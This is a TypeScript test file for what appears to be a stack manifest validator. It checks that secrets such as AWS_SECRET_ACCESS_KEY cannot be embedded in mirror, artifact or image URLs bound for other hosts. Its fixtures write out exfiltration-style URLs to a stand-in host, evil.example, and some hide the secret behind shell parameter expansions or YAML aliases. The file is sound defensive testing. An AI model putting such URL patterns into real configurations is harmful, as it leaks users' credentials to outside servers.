import { describe, expect, test } from "vitest";
import { codesOf, loadText, screenOf } from "../../../support/read-manifest.ts";

/** Values that are sent to another machine take no variable of the user's environment with them. */

const environment = {
  AWS_SECRET_ACCESS_KEY: "hunter2hunter2",
  QCLOCK_PUBLIC_HOST: "mirror.example",
};
const digest = "a".repeat(64);
const secret = "${AWS_SECRET_ACCESS_KEY}";

const images = (image: string): string => `name: shop\nimages: { base: ${image} }\n`;
const artifact = (url: string): string =>
  images(`{ from: scratch, artifacts: [{ url: ${url}, sha256: "${digest}", path: /a }] }`);

describe("a variable is refused", () => {
  test.each([
    ["in a mirror", `name: shop\nmirrors: { debian-12: "https://evil.example/${secret}" }\n`],
    ["in an artifact's URL", artifact(`"https://evil.example/?${secret}"`)],
    ["in a reference", images(`{ image: "evil.example/a:${secret}@sha256:${digest}" }`)],
    ["in a default", artifact(`"https://evil.example/\${QCLOCK_PUBLIC_HOST:-${secret}}"`)],
    ["in an alternative", artifact(`"https://evil.example/\${QCLOCK_PUBLIC_HOST:+${secret}}"`)],
    ["in a message", artifact(`"https://evil.example/\${QCLOCK_PUBLIC_HOST:?${secret}}"`)],
    ["of qclock's own", artifact('"https://evil.example/${QCLOCK_MIRROR_DEBIAN_12-}"')],
    ["behind an alias", `x-url: &url "https://evil.example/${secret}"\n${artifact("*url")}`],
    [
      "behind an alias of what is around",
      `x-a: &a [{ url: "https://evil.example/${secret}", sha256: "${digest}", path: /a }]\n${images("{ from: scratch, artifacts: *a }")}`,
    ],
  ])("%s", (_, text) => {
    expect(codesOf(text, { environment })).toEqual(["variable-sent-away"]);
    expect(screenOf(text, { environment })).not.toContain("hunter2");
  });

  test("with its place and what to do", () => {
    const text = `name: shop\nmirrors:\n  debian-12: "https://evil.example/${secret}/debian"\n`;

    expect(screenOf(text, { environment })).toMatchInlineSnapshot(`
      "
      stack.config.yaml:3:36 error: "mirrors.debian-12" is sent to another machine, so AWS_SECRET_ACCESS_KEY must not be part of it. [variable-sent-away]

          3 |   debian-12: "https://evil.example/\${AWS_SECRET_ACCESS_KEY}/debian"
            |                                    ~~~~~~~~~~~~~~~~~~~~~~~~
            hint: Write the value out; or, when others may know it, name the variable QCLOCK_PUBLIC_….

      1 error
      "
    `);
  });
});

test("a variable that is named public is allowed", () => {
  const loaded = loadText(artifact('"https://${QCLOCK_PUBLIC_HOST}/x"'), { environment });

  expect(loaded.ok && loaded.value.manifest.images["base"]?.artifacts?.[0]?.url).toBe(
    "https://mirror.example/x",
  );
});

test("values that stay here, or reach what the stack runs, take any variable", () => {
  const text = `${images('{ from: scratch, user: "1:1" }')}services: { app: { image: base, environment: { A: "${secret}" }, probes: [{ http_get: { port: 80, headers: { Authorization: "${secret}" } } }] } }\n`;

  expect(codesOf(text, { environment })).toEqual([]);
});

test("a number behind an alias keeps how it is written", () => {
  const loaded = loadText(
    `x-env: &env { VERSION: 1.10 }\n${images("{ from: scratch, environment: *env }")}`,
  );

  expect(loaded.ok && loaded.value.manifest.images["base"]?.environment).toEqual({
    VERSION: "1.10",
  });
});
